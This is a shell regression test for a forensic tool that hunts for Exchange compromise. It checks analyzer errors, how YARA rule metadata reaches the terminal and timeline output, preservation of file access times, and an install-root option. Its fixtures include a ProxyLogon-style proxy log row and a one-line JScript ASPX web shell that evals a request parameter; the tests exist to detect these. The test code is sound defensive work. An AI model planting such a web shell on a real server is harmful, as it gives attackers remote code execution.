#!/bin/bash
# Regressions from the acceptance audit of issue 4 (exaudit hunt): the
# --analyzers error names the analyzer it refuses; user YARA rules keep their
# author and reference in every output (signature-base's DRL 1.1); a hunt that
# cannot keep access times says so, and one that can keeps them.
# shellcheck source=lib.sh
source "$(dirname "$0")/lib.sh"

EV="$TMP/ev"
mkdir -p "$EV/Logging/HttpProxy/Ecp"
# a ProxyLogon row of HELSECERT's shape (logs-and-builds.md §3.1), one line after the header
LOG="$EV/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG"
{
    echo '#Software: Microsoft Exchange Server'
    echo '#Fields: DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus'
    echo '2021-03-03T06:49:43.699Z,064b2769-8807-444a-8df5-0cc24d83ee68,15,1,2176,2,,Ecp,mail.contoso.com,/ecp/y.js,,,false,,,ServerInfo~a]@EXCH01.contoso.local:444/mapi/emsmdb/?#,ExchangeServicesClient/0.0.0.0,130.255.189.21,EXCH01,200,200'
} >"$LOG"

# --- --analyzers: the refused name is printed (it was read from freed memory) ---
run "$EXAUDIT" hunt --no-progress --analyzers httpproxy,no-such-analyzer "$EV"
expect_eq "--analyzers with an unknown name: usage error" "$RC" "2"
expect_contains "--analyzers names the unknown analyzer" "$ERR" "unknown analyzer 'no-such-analyzer'"

# --- --rules: author and reference on the terminal and in the timeline ---
mkdir -p "$EV/inetpub/wwwroot/aspnet_client"
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["audit-shell"],"unsafe");%%>\n' \
    >"$EV/inetpub/wwwroot/aspnet_client/errorEE.aspx"
cat >"$TMP/user.yar" <<'EOF'
rule Audit_User_Rule
{
    meta:
        author = "Audit Author"
        reference = "https://example.org/audit-rule"
        description = "audit test rule"
    strings:
        $a = "audit-shell"
    condition:
        $a and extension == ".aspx"
}
EOF
run "$EXAUDIT" hunt --no-progress --rules "$TMP/user.yar" --timeline "$TMP/tl.csv" "$EV"
rule_block="$(grep -A3 'YARA Audit_User_Rule' <<<"$OUT")"
expect_contains "terminal: the user rule's author is shown with its match" "$rule_block" "author: Audit Author"
expect_contains "terminal: the user rule's reference is shown with its match" "$rule_block" \
    "reference: https://example.org/audit-rule"
check "timeline CSV: rule_author and rule_reference columns carry the rule's meta" python3 - "$TMP/tl.csv" <<'EOF'
import csv, sys
rows = [r for r in csv.DictReader(open(sys.argv[1], encoding="utf-8", newline="")) if r["rule"] == "Audit_User_Rule"]
assert rows, "no row for the user rule"
assert rows[0]["rule_author"] == "Audit Author", rows[0]
assert rows[0]["rule_reference"] == "https://example.org/audit-rule", rows[0]
EOF

# --- access times: O_NOATIME needs ownership or CAP_FOWNER ---
# Needs root to act as a user who owns nothing here; CI runs as root.
if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null; then
    chmod 755 "$TMP"
    chmod -R a+rX "$EV"
    cp "$EXAUDIT" "$TMP/exaudit-copy" && chmod 755 "$TMP/exaudit-copy"
    touch -a -d '2020-01-01 00:00:00' "$LOG"
    before="$(stat -c %X "$LOG")"
    run "$EXAUDIT" hunt --no-progress "$EV"
    expect_eq "root: access time of a read log unchanged" "$(stat -c %X "$LOG")" "$before"
    expect_not_contains "root: no access-time warning" "$ERR" "access times"
    ERR="$(HOME="$TMP" setpriv --reuid=65534 --regid=65534 --clear-groups "$TMP/exaudit-copy" hunt --no-progress \
        "$EV" 2>&1 >/dev/null)"
    expect_contains "not the owner: the hunt warns that access times change" "$ERR" \
        "reading will update access times (O_NOATIME is refused"
    # the warning is true: relatime updated the access time older than the file's mtime
    expect_eq "not the owner: the access time did change (the warning is not a false alarm)" \
        "$([ "$(stat -c %X "$LOG")" != "$before" ] && echo changed)" "changed"
fi

# --- --exchange-root given as the local path of the folder in a mounted tree ---
MV="$TMP/moved"
if "$BUILD_DIR/mkevidence" --out "$MV" --scenario proxylogon-oab-webshell --install-root 'D:\Apps\Mail' \
    --size 2M --truth "$TMP/moved.json" --quiet >"$TMP/mk.log" 2>&1; then
    run "$EXAUDIT" hunt --json --no-progress --exchange-root "$MV/D/Apps/Mail" "$MV"
    S="$(tail -n 1 <<<"$OUT")"
    expect_eq "--exchange-root as a local path: the install is that folder of the evidence" \
        "$(jq -r '.install.root + " | " + .install.root_source' <<<"$S")" "D/Apps/Mail | --exchange-root"
    expect_eq "--exchange-root as a local path: the build is read from its Bin/ExSetup.exe (ground truth)" \
        "$(jq -r .install.build <<<"$S")" "$(jq -r .patched_build "$TMP/moved.json")"
    run "$EXAUDIT" hunt --json --no-progress --exchange-root 'C:\Not\There' "$MV"
    expect_contains "--exchange-root that matches nothing: said so, not silently taken" \
        "$(tail -n 1 <<<"$OUT" | jq -r .install.root_source)" "no file of the evidence lies under it"
else
    fail "mkevidence moved install" "$(head -c 1500 "$TMP/mk.log")"
fi
